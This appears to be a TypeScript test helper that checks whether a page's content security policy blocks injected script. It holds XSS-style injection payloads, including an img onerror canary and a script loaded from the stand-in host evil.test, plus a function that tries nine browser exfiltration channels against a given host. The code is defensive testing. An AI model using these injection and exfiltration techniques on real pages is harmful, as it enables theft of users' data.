/**
 * What a script injected into a page would try. Each function is serialised into the page: it may use nothing from its
 * module.
 */

/** In a page: the effect of each of these under the content security policy. */
export function attemptInjections(): Record<string, string> {
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- only this function's source is sent to the page
  const attempt = (action: () => unknown): string => {
    try {
      action();
      return 'done';
    } catch (error) {
      return error instanceof Error ? error.name : 'refused';
    }
  };
  return {
    innerHTML: attempt(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.canaryRan=1">';
    }),
    insertAdjacentHTML: attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
    documentWrite: attempt(() => document.write('<b>x</b>')),
    scriptText: attempt(() => {
      document.createElement('script').textContent = 'window.canaryRan=1';
    }),
    scriptSrc: attempt(() => {
      document.createElement('script').src = 'https://evil.test/x.js';
    }),
    srcdoc: attempt(() => {
      document.createElement('iframe').srcdoc = '<script>1</script>';
    }),
    newPolicy: attempt(() => {
      const factory: unknown = Reflect.get(window, 'trustedTypes');
      if (
        typeof factory === 'object' &&
        factory !== null &&
        'createPolicy' in factory &&
        typeof factory.createPolicy === 'function'
      )
        factory.createPolicy('evil', { createHTML: (text: string) => text });
    }),
  };
}

/** In a page: every means of exfiltration in a browser. Returns how many were tried. */
export async function sendElsewhere(elsewhere: string): Promise<number> {
  const ways: (() => unknown)[] = [
    () => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }),
    () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
    () => {
      new Image().src = `${elsewhere}/image`;
    },
    () => {
      const video = document.createElement('video');
      video.src = `${elsewhere}/video`;
      document.body.append(video);
    },
    () => new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
    () => new EventSource(`${elsewhere}/events`),
    () => {
      const frame = document.createElement('iframe');
      frame.src = `${elsewhere}/frame`;
      document.body.append(frame);
    },
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${elsewhere}/style`;
      document.head.append(link);
    },
    () => {
      const form = document.createElement('form');
      form.action = `${elsewhere}/form`;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
  ];
  for (const way of ways) {
    try {
      await way();
    } catch {
      // Refused, as expected.
    }
  }
  return ways.length;
}
